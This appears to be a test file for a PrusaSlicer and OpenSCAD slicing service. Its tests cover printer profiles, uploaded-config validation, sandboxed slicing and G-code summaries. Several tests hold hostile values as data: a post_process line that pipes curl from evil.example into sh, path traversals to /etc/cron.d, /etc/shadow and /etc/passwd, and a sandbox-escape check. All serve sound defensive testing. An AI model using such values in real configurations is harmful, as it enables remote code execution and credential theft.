import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { probeBinary, runNative } from '@/lib/cad/openscad/native-openscad'
import { parseBinaryStl } from '@/lib/cad/mesh/parse-stl'
import { write3mf } from '@/lib/cad/mesh/write-3mf'
import type { Rgba } from '@/lib/cad/mesh/mesh'
import {
  DEFAULT_PROFILE,
  extrudersOf,
  filamentsFor,
  flatConfig,
  printers,
  printsFor,
  ProfileError,
  readUploadedConfig,
  slicerConfig,
  vendors,
} from '@/lib/slicing/profiles'
import { holds } from '@/lib/slicing/compatibility'
import { DEFAULT_BUILD_VOLUME_MM } from '@/lib/manufacturing/print-report'
import { readGcode, slice } from '@/lib/slicing/prusa-slicer'
import { PauseSwitch } from '@/lib/sandbox/bubblewrap'
import { env } from '@/lib/env'
import { directSlice, summaryDifferences } from '@/test/support/print-ready'

// PrusaSlicer's command line (Debian's 2.5) with the vendor bundles it ships, on models the
// real engine (Debian's OpenSCAD, in its sandbox) builds: the sandboxed slice against a direct
// run of the same 3MF and config, and what a quote must tell apart.
const openscad = probeBinary(process.env.OPENSCAD_BINARY ?? '/usr/bin/openscad')
const MINI = {
  vendor: 'PrusaResearch',
  printer: 'Original Prusa MINI & MINI+',
  print: '0.15mm QUALITY @MINI',
  filament: 'Prusament PETG @MINI',
}

/** The model of an OpenSCAD source, built by the real engine. */
async function meshOf(source: string, defines: string[] = []) {
  const built = await runNative(openscad, {
    files: [{ path: 'main.scad', data: new TextEncoder().encode(source) }],
    mainFile: 'main.scad',
    libraries: [],
    fonts: [],
    defines,
    format: 'binstl',
    timeLimitMs: 60_000,
    memoryLimitBytes: 2 * 1024 ** 3,
  })
  expect(built.exitCode, built.log.error).toBe(0)
  return parseBinaryStl(built.output!)
}

/** The model of an OpenSCAD source as its print-ready 3MF. */
async function printReady(source: string, defines: string[] = []) {
  return write3mf(await meshOf(source, defines))
}

function sliced(model: Uint8Array, config = flatConfig()) {
  return slice({ binary: env.PRUSA_SLICER, model, config, timeLimitMs: 60_000, memoryLimitBytes: 2 * 1024 ** 3 })
}

describe('profiles', () => {
  it('lists the vendor bundles on the machine and resolves a preset through what it inherits', () => {
    expect(vendors()).toContainEqual({ id: 'PrusaResearch', name: 'Prusa Research' })
    const config = slicerConfig()
    // The MK3S inherits its bed from the MK3, its quality's layer height from *0.20mm*, the filament's density from Prusament PLA.
    expect(config.buildVolumeMm).toEqual([250, 210, 210])
    expect(config.buildVolumeMm).toEqual(DEFAULT_BUILD_VOLUME_MM)
    expect(config.text).toMatch(/^layer_height = 0\.2$/m)
    expect(config.text).toMatch(/^filament_density = 1\.24$/m)
    expect(config.text).toMatch(/^support_material = 1$/m)
    expect(config.text).not.toMatch(/^(inherits|compatible_printers_condition) =/m)
    expect(slicerConfig(MINI).buildVolumeMm).toEqual([180, 180, 180])
  })

  it('offers a printer the print settings and filaments that suit it, as PrusaSlicer lists them', () => {
    const prusas = printers('PrusaResearch')
    expect(prusas).toContainEqual({ name: DEFAULT_PROFILE.printer, buildVolumeMm: [250, 210, 210], extruders: 1 })
    expect(prusas).toContainEqual({
      name: 'Original Prusa i3 MK3S & MK3S+ MMU2S',
      buildVolumeMm: [250, 210, 210],
      extruders: 5,
    })
    // Abstract presets and resin printers are not offered.
    expect(prusas.map(({ name }) => name).filter((name) => name.startsWith('*') || name.includes('SL1'))).toEqual([])
    const mk3sPrints = printsFor('PrusaResearch', DEFAULT_PROFILE.printer)
    expect(mk3sPrints).toContain(DEFAULT_PROFILE.print)
    expect(mk3sPrints).not.toContain(MINI.print)
    expect(printsFor('PrusaResearch', MINI.printer)).toContain(MINI.print)
    // The 0.6 mm nozzle gets its own prints, not the 0.4 mm nozzle's.
    const wide = printsFor('PrusaResearch', 'Original Prusa i3 MK3S & MK3S+ 0.6 nozzle')
    expect(wide.length).toBeGreaterThan(0)
    expect(wide).not.toContain(DEFAULT_PROFILE.print)
    const filaments = filamentsFor('PrusaResearch', DEFAULT_PROFILE.printer, DEFAULT_PROFILE.print)
    expect(filaments).toContain(DEFAULT_PROFILE.filament)
    expect(filaments.some((name) => name.includes('@MMU2'))).toBe(false)
    // A printer whose preset leaves its nozzle to PrusaSlicer's default (0.4 mm) still gets prints.
    expect(printsFor('Anycubic', 'Anycubic i3 Mega').length).toBeGreaterThan(0)
  })

  it("reads PrusaSlicer's compatibility conditions", () => {
    const printer = new Map(
      Object.entries({
        printer_model: 'MINI',
        nozzle_diameter: '0.4,0.6',
        printer_notes: 'a\\nPRINTER_VENDOR_PRUSA3D\\n',
        single_extruder_multi_material: '0',
      }),
    )
    const lookup = (name: string) => printer.get(name)
    expect(holds('', lookup)).toBe(true)
    expect(holds('printer_model=="MINI" and nozzle_diameter[0]!=0.8', lookup)).toBe(true)
    expect(holds('nozzle_diameter[1]>=0.6 && !single_extruder_multi_material', lookup)).toBe(true)
    expect(
      holds(
        'printer_notes=~/.*PRINTER_VENDOR_PRUSA3D.*/ and not (printer_model!="MINI" or nozzle_diameter[0]==0.4)',
        lookup,
      ),
    ).toBe(false)
    expect(holds('printer_notes!~/.*PRINTER_MODEL_MK(2|2.5).*/ || printer_model=="MK3"', lookup)).toBe(true)
    expect(() => holds('printer_colour=="red"', lookup)).toThrow('no setting is called printer_colour')
    expect(() => holds('printer_model=="MINI" and', lookup)).toThrow('ends too soon')
  })

  it('names what is wrong with a choice the machine does not have, or that does not suit its printer', () => {
    expect(() => flatConfig({ ...DEFAULT_PROFILE, printer: 'Original Prusa i9' })).toThrow(
      'PrusaResearch has no printer profile "Original Prusa i9"',
    )
    expect(() => flatConfig({ ...DEFAULT_PROFILE, vendor: '../etc/passwd' })).toThrow(ProfileError)
    expect(() => flatConfig({ ...DEFAULT_PROFILE, vendor: 'Nobody' })).toThrow(
      'this machine has no PrusaSlicer profiles of Nobody',
    )
    expect(() => flatConfig({ ...DEFAULT_PROFILE, print: MINI.print })).toThrow(
      'the print settings "0.15mm QUALITY @MINI" do not suit the Original Prusa i3 MK3S & MK3S+',
    )
    expect(() => flatConfig({ ...DEFAULT_PROFILE, filament: 'Prusament PLA @MMU2' })).toThrow(
      'the filament "Prusament PLA @MMU2" does not suit the Original Prusa i3 MK3S & MK3S+',
    )
  })

  it("replaces the printer's bed by the build volume a designer sets", () => {
    const config = slicerConfig(DEFAULT_PROFILE, [300, 200, 100])
    expect(config.buildVolumeMm).toEqual([300, 200, 100])
    expect(config.text).toMatch(/^bed_shape = 0x0,300x0,300x200,0x200$/m)
    expect(config.hash).not.toBe(slicerConfig().hash)
  })

  describe('an uploaded config', () => {
    // A config as PrusaSlicer exports one: every key, the unsafe ones empty.
    let exported: string
    beforeAll(() => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'paraform-config-test-'))
      fs.writeFileSync(path.join(dir, 'in.ini'), flatConfig())
      execFileSync(env.PRUSA_SLICER, ['--load', 'in.ini', '--save', 'out.ini'], {
        cwd: dir,
        stdio: 'ignore',
        env: { ...process.env, HOME: dir },
      })
      exported = fs.readFileSync(path.join(dir, 'out.ini'), 'utf8')
      fs.rmSync(dir, { recursive: true, force: true })
    })

    it('is read as PrusaSlicer exported it', () => {
      expect(exported).toMatch(/^post_process = $/m)
      expect(readUploadedConfig(exported).get('bed_shape')).toBe('0x0,250x0,250x210,0x210')
    })

    it.each([
      ['post_process', 'post_process = /bin/sh -c "curl evil.example | sh"'],
      ['output_filename_format', 'output_filename_format = ../../etc/cron.d/job'],
      ['bed_custom_texture', 'bed_custom_texture = /etc/shadow'],
      ['printhost_apikey', 'printhost_apikey = secret'],
    ])('refuses %s set to do harm, naming the key', (key, line) => {
      const hostile = `${exported.replace(new RegExp(`^${key} = .*\n`, 'm'), '')}${line}\n`
      expect(() => readUploadedConfig(hostile)).toThrow(`\`${key}\` may not be set`)
    })

    it('refuses what is not a single PrusaSlicer config', () => {
      expect(() => readUploadedConfig('hello world')).toThrow('line 1 is not `key = value`')
      expect(() => readUploadedConfig('speed = 3\n')).toThrow('not a PrusaSlicer config: it does not set `bed_shape`')
      expect(() => readUploadedConfig(`${exported}layer_height = 0.1\n`)).toThrow('`layer_height` is set twice')
      expect(() => readUploadedConfig(`[print:Mine]\n${exported}`)).toThrow('this is a config bundle')
    })
  })
})

describe('slicing in the sandbox', () => {
  it('reports what a direct run of the same 3MF and profile writes, for two demo models and two profiles', async () => {
    const box = await printReady(fs.readFileSync('demo/box-with-lid/main.scad', 'utf8'), ['width=50', 'depth=40'])
    const gear = await printReady(fs.readFileSync('demo/spur-gear/main.scad', 'utf8'))
    for (const model of [box, gear]) {
      for (const config of [flatConfig(), flatConfig(MINI)]) {
        const result = await sliced(model, config)
        if (!result.figures) throw new Error(result.error)
        expect(summaryDifferences(result.figures, await directSlice(model, config))).toEqual([])
        expect(result.figures.layers).toBeGreaterThan(10)
      }
    }
  })

  it('tells a tall tower from a flat block of the same volume, and an overhang that needs supports', async () => {
    const [tower, block, t] = await Promise.all([
      printReady('cube([10, 10, 80]);'),
      printReady('cube([40, 40, 5]);'),
      // A T standing on its foot: the bar's arms hang 15 mm out on either side.
      printReady('translate([15, 0, 0]) cube([5, 10, 30]); translate([0, 0, 30]) cube([35, 10, 5]);'),
    ])
    const [towerSlice, blockSlice, tSlice] = await Promise.all([sliced(tower), sliced(block), sliced(t)])
    expect(towerSlice.figures!.printTimeSeconds).toBeGreaterThan(1.5 * blockSlice.figures!.printTimeSeconds)
    expect(towerSlice.figures!.layers).toBe(400)
    expect(blockSlice.figures!.layers).toBe(25)
    expect(blockSlice.figures!.supports).toBe(false)
    expect(towerSlice.figures!.supports).toBe(false)
    expect(tSlice.figures!.supports).toBe(true)
  })

  it("prints each part of a coloured model with the next of a multi-material printer's extruders", async () => {
    const mmu = { ...DEFAULT_PROFILE, printer: 'Original Prusa i3 MK3S & MK3S+ MMU2S', filament: 'Prusament PLA @MMU2' }
    const config = flatConfig(mmu)
    expect(extrudersOf(config)).toBe(5)
    // Two parts, each built alone: Debian's OpenSCAD writes no colours.
    const [base, top] = await Promise.all([
      meshOf('cube([20, 20, 4]);'),
      meshOf('translate([0, 0, 4]) cube([20, 20, 2]);'),
    ])
    const mesh = { parts: [base.parts[0]!, { ...top.parts[0]!, color: [0, 0, 1, 1] as Rgba }] }
    const result = await sliced(write3mf(mesh, undefined, 'model', 5), config)
    expect(result.figures?.materials.map(({ extruder }) => extruder)).toEqual([1, 2])
  })

  it('says a model does not fit the printer instead of a time', async () => {
    const result = await sliced(await printReady('cube([300, 20, 10]);'))
    expect(result.figures).toBeNull()
    expect(result).toMatchObject({ error: 'Objects could not fit on the bed' })
  })

  it('stops a slice at its time limit and leaves nothing behind', async () => {
    const model = await printReady('cylinder(r = 40, h = 150, $fn = 400);')
    const before = fs.readdirSync(os.tmpdir()).filter((name) => name.startsWith('paraform-slice-')).length
    const result = await slice({
      binary: env.PRUSA_SLICER,
      model,
      config: flatConfig(),
      timeLimitMs: 300,
      memoryLimitBytes: 2 * 1024 ** 3,
    })
    expect(result).toMatchObject({ figures: null, error: 'the slicer was stopped after its time limit of 0.3 s' })
    expect(fs.readdirSync(os.tmpdir()).filter((name) => name.startsWith('paraform-slice-')).length).toBe(before)
  })

  it('stands still while paused, every process of its sandbox, and its time limit does not count the pause', async () => {
    const model = await printReady('cube([20, 20, 10]);')
    const pauses = new PauseSwitch()
    let ended = false
    const running = slice(
      { binary: env.PRUSA_SLICER, model, config: flatConfig(), timeLimitMs: 2000, memoryLimitBytes: 2 * 1024 ** 3 },
      pauses,
    ).finally(() => (ended = true))
    // PrusaSlicer names its main thread slic3r_main once it has started.
    const slicer = /^(\S+)\s+(prusa-slicer|slic3r_main)$/m
    const sandboxed = () => execFileSync('ps', ['-o', 'stat=,comm=', '-u', 'nobody'], { encoding: 'utf8' })
    await expect.poll(sandboxed, { timeout: 10_000, interval: 20 }).toMatch(slicer)
    // Paused as a customer's build would pause it, running: longer than its time limit.
    pauses.set(true)
    await new Promise((resolve) => setTimeout(resolve, 3000))
    expect(ended).toBe(false)
    expect(sandboxed()).toMatch(/^T\S*\s+(prusa-slicer|slic3r_main)$/m)
    pauses.set(false)
    const result = await running
    expect(result.figures?.layers).toBe(50)
  })

  it('keeps what the slicer runs inside its sandbox: a post-processing script reaches none of the host', async () => {
    const escaped = path.join(os.tmpdir(), `paraform-escaped-${process.pid}`)
    const config = flatConfig().replace(/^post_process = .*$/m, `post_process = /usr/bin/touch ${escaped}`)
    expect(config).toContain(escaped)
    const result = await sliced(await printReady('cube([10, 10, 2]);'), config)
    expect(result.figures).not.toBeNull()
    expect(fs.existsSync(escaped)).toBe(false)
  })

  it('reads the summary PrusaSlicer writes at the end of its G-code', () => {
    const figures = readGcode(
      [
        ';LAYER_CHANGE',
        ';TYPE:Support material',
        ';LAYER_CHANGE',
        '; filament used [mm] = 1546.57, 0.00, 20.5',
        '; filament used [g] = 4.61, 0.00, 0.06',
        '; estimated printing time (normal mode) = 1d 3h 57m 16s',
      ].join('\n'),
    )
    expect(figures).toEqual({
      printTimeSeconds: 86400 + 3 * 3600 + 57 * 60 + 16,
      materials: [
        { extruder: 1, lengthMm: 1546.57, weightG: 4.61 },
        { extruder: 3, lengthMm: 20.5, weightG: 0.06 },
      ],
      supports: true,
      layers: 2,
    })
    expect(() => readGcode('G1 X0\n')).toThrow('not written by PrusaSlicer')
  })
})
